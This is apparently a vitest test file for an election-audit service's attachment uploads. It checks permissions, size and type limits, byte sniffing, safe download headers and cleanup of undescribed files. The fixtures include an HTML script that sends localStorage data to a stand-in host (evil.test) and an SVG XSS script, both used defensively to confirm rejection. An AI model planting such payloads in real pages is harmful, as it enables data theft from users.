import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import yazl from 'yazl';
import { ATTACHMENT_MESSAGES, type Attachment, type AuditJob } from '@scrutineer/contracts';
import { startTestServer, type TestServer } from '../../test/harness.js';
import {
  addToElection,
  createAccount,
  createDistrict,
  createElection,
  type Account,
} from '../../test/elections-fixtures.js';
import { createJob, fetchBytes, postForm } from '../../test/jobs-fixtures.js';
import { sweepUndescribedAttachments } from './attachments.service.js';

let server: TestServer;
let auditor: Account;
let uploader: Account;
let observer: Account;
let stranger: Account;
let job: AuditJob;

const pdf = Buffer.from('%PDF-1.4\n1 0 obj <<>> endobj\ntrailer <<>>\n%%EOF\n');
const png = Buffer.from(
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==',
  'base64',
);
const html = Buffer.from(
  '<html><script>fetch("//evil.test/?t="+localStorage.length)</script></html>',
);
const svg = Buffer.from(
  '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.domain)</script></svg>',
);

/** A minimal Word (OOXML) document: the parts a reader looks for to name the format. */
async function docx(): Promise<Buffer> {
  const zip = new yazl.ZipFile();
  zip.addBuffer(
    Buffer.from(
      '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>',
    ),
    '[Content_Types].xml',
  );
  zip.addBuffer(Buffer.from('<w:document/>'), 'word/document.xml');
  zip.end();
  const chunks: Buffer[] = [];
  for await (const chunk of zip.outputStream) chunks.push(chunk as Buffer);
  return Buffer.concat(chunks);
}

beforeAll(async () => {
  server = await startTestServer();
  [auditor, uploader, observer, stranger] = await Promise.all([
    createAccount(server, { role: 'Client' }),
    createAccount(server),
    createAccount(server),
    createAccount(server),
  ]);
  const district = await createDistrict(server, auditor.token);
  const election = await createElection(server, auditor.token, district.id, { privacy: 'Open' });
  await addToElection(server, auditor.token, election.id, uploader, 'Uploader');
  await addToElection(server, auditor.token, election.id, observer, 'Observer');
  job = await createJob(server, auditor.token, election.id);
});
afterAll(async () => server.close());

const attach = (token: string, name: string, type: string, content: Buffer = pdf) =>
  postForm<{ id: number; url: string; message: string; error?: string }>(
    server,
    '/upload-attech-files',
    token,
    { job_id: String(job.id) },
    [{ field: 'files', name, type, content }],
  );

describe('attachments', () => {
  it('attaches a PDF with a markdown description, lists it, opens it and deletes it', async () => {
    const uploaded = await attach(uploader.token, 'chain-of-custody.pdf', 'application/pdf');
    expect(uploaded.status).toBe(201);
    expect(uploaded.body).toMatchObject({
      message: ATTACHMENT_MESSAGES.uploaded,
      url: `/api/audit-attech/${uploaded.body.id}/file`,
    });
    const unlisted = await server.call<{ items: Attachment[] }>('GET', `/attech-files/${job.id}`, {
      token: auditor.token,
    });
    expect(unlisted.body.items).toEqual([]);
    const empty = await server.call('POST', '/add-auditattech', {
      token: uploader.token,
      body: { job_id: job.id, id: uploaded.body.id, description: '  ' },
    });
    expect(empty).toMatchObject({
      status: 400,
      body: { error: ATTACHMENT_MESSAGES.descriptionRequired },
    });
    const numeric = await server.call('POST', '/add-auditattech', {
      token: uploader.token,
      body: { job_id: job.id, id: uploaded.body.id, description: '12345' },
    });
    expect(numeric).toMatchObject({
      status: 400,
      body: { error: ATTACHMENT_MESSAGES.descriptionNumeric },
    });
    const saved = await server.call<Attachment>('POST', '/add-auditattech', {
      token: uploader.token,
      body: {
        job_id: job.id,
        id: uploaded.body.id,
        description: '# Custody\nSigned by **both** parties.',
      },
    });
    expect(saved.body).toMatchObject({
      message: ATTACHMENT_MESSAGES.saved,
      audit_file_name: 'chain-of-custody.pdf',
      users: { email: uploader.email },
      content_type: 'application/pdf',
    });
    const list = await server.call<{ items: Attachment[] }>('GET', `/attech-files/${job.id}`, {
      token: observer.token,
    });
    expect(list.body.items).toHaveLength(1);
    expect(list.body.items[0]).toMatchObject({
      description: '# Custody\nSigned by **both** parties.',
      can: { delete: false },
    });
    const opened = await fetchBytes(server, list.body.items[0]!.attech_url, observer.token);
    expect(opened.status).toBe(200);
    expect(opened.headers.get('content-type')).toBe('application/pdf');
    expect(opened.text).toBe(pdf.toString());
    const byObserver = await server.call('DELETE', `/audit-attech/${uploaded.body.id}`, {
      token: observer.token,
    });
    expect(byObserver.status).toBe(403);
    const byStranger = await server.call('DELETE', `/audit-attech/${uploaded.body.id}`, {
      token: stranger.token,
    });
    expect(byStranger.status).toBe(404);
    const deleted = await server.call('DELETE', `/audit-attech/${uploaded.body.id}`, {
      token: auditor.token,
    });
    expect(deleted.body).toEqual({ message: ATTACHMENT_MESSAGES.deleted });
    const after = await fetchBytes(server, list.body.items[0]!.attech_url, auditor.token);
    expect(after.status).toBe(404);
  });

  it('accepts images and Word documents; refuses other types, Observers and strangers', async () => {
    const word = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document';
    for (const [name, type, content] of [
      ['scan.png', 'image/png', png],
      ['notes.docx', word, await docx()],
    ] as const) {
      const answer = await attach(auditor.token, name, type, content);
      expect(answer.status, name).toBe(201);
    }
    const exe = await attach(auditor.token, 'tool.exe', 'application/octet-stream');
    expect(exe).toMatchObject({ status: 400, body: { error: ATTACHMENT_MESSAGES.typeNotAllowed } });
    const asObserver = await attach(observer.token, 'scan.png', 'image/png');
    expect(asObserver.status).toBe(403);
    const asStranger = await attach(stranger.token, 'scan.png', 'image/png');
    expect(asStranger.status).toBe(404);
    const big = await attach(
      auditor.token,
      'big.pdf',
      'application/pdf',
      Buffer.alloc(25 * 1024 * 1024 + 1),
    );
    expect(big).toMatchObject({ status: 400, body: { error: ATTACHMENT_MESSAGES.tooLarge } });
  });

  it('refuses files whose bytes are not an image, PDF or Word document, whatever their name', async () => {
    for (const [name, type, content] of [
      ['minutes.pdf', 'application/pdf', html],
      ['scan.png', 'image/png', html],
      ['seal.svg', 'image/svg+xml', svg],
      ['seal.png', 'image/png', svg],
      ['notes.docx', 'application/msword', Buffer.from('plain words')],
    ] as const) {
      const answer = await attach(uploader.token, name, type, content);
      expect(answer, name).toMatchObject({
        status: 400,
        body: { error: ATTACHMENT_MESSAGES.typeNotAllowed },
      });
    }
  });

  it('serves attachments as downloads of their checked type, never as pages', async () => {
    // A PDF sent as an image is stored, and served, as the PDF it is.
    const uploaded = await attach(uploader.token, 'photo.png', 'image/png', pdf);
    expect(uploaded.status).toBe(201);
    const served = await fetchBytes(server, uploaded.body.url, auditor.token);
    expect(served.status).toBe(200);
    expect(served.headers.get('content-type')).toBe('application/pdf');
    expect(served.headers.get('content-disposition')).toBe(
      `attachment; filename="photo.png"; filename*=UTF-8''photo.png`,
    );
    expect(served.headers.get('x-content-type-options')).toBe('nosniff');
    expect(served.headers.get('content-security-policy')).toMatch(/(^|;\s*)sandbox(;|$)/);
    expect(served.headers.get('content-security-policy')).toContain("default-src 'none'");

    // A file stored before types were checked goes out as plain bytes, never as HTML or SVG.
    for (const type of ['text/html', 'image/svg+xml']) {
      await server.deps.database.executeSql(
        'UPDATE job_attachments SET content_type = $1 WHERE id = $2',
        [type, uploaded.body.id],
      );
      const old = await fetchBytes(server, uploaded.body.url, auditor.token);
      expect(old.headers.get('content-type'), type).toBe('application/octet-stream');
      expect(old.headers.get('content-disposition')).toMatch(/^attachment;/);
    }
  });

  it('sweeps uploads never described after the grace period, with their bytes', async () => {
    const day = 24 * 3_600_000;
    const [stale, fresh, late] = await Promise.all(
      ['stale.pdf', 'fresh.pdf', 'late.pdf'].map(async (name) => {
        const answer = await attach(uploader.token, name, 'application/pdf');
        expect(answer.status).toBe(201);
        return answer.body;
      }),
    );
    const keyOf = async (id: number) => {
      const { rows } = await server.deps.database.executeSql(
        'SELECT storage_key AS key FROM job_attachments WHERE id = $1',
        [id],
      );
      return (rows as { key: string }[])[0]?.key;
    };
    const staleKey = (await keyOf(stale!.id))!;
    // Two uploads a day and an hour old; the late one gets its description before the sweep.
    await server.deps.database.executeSql(
      `UPDATE job_attachments SET created_at = now() - interval '25 hours' WHERE id IN ($1, $2)`,
      [stale!.id, late!.id],
    );
    const described = await server.call('POST', '/add-auditattech', {
      token: uploader.token,
      body: { job_id: job.id, id: late!.id, description: 'Described in time.' },
    });
    expect(described.status).toBe(200);

    expect(await sweepUndescribedAttachments(server.deps, day)).toBe(1);
    expect(await keyOf(stale!.id)).toBeUndefined();
    expect(await server.deps.blobs.head(staleKey)).toBeNull();
    expect((await fetchBytes(server, stale!.url, uploader.token)).status).toBe(404);
    const tooLate = await server.call('POST', '/add-auditattech', {
      token: uploader.token,
      body: { job_id: job.id, id: stale!.id, description: 'Too late.' },
    });
    expect(tooLate.status).toBe(404);
    const { rows } = await server.deps.database.executeSql(
      `SELECT action, actor_id FROM events WHERE subject_type = 'job_attachment' AND subject_id = $1 ORDER BY id`,
      [String(stale!.id)],
    );
    expect(rows).toEqual([
      { action: 'upload', actor_id: uploader.id },
      { action: 'expire', actor_id: null },
    ]);
    // Within the grace period, and described: both kept.
    expect((await fetchBytes(server, fresh!.url, uploader.token)).status).toBe(200);
    const list = await server.call<{ items: Attachment[] }>('GET', `/attech-files/${job.id}`, {
      token: auditor.token,
    });
    expect(list.body.items.map((item) => item.id)).toContain(late!.id);
    expect(await sweepUndescribedAttachments(server.deps, day)).toBe(0);
  });
});
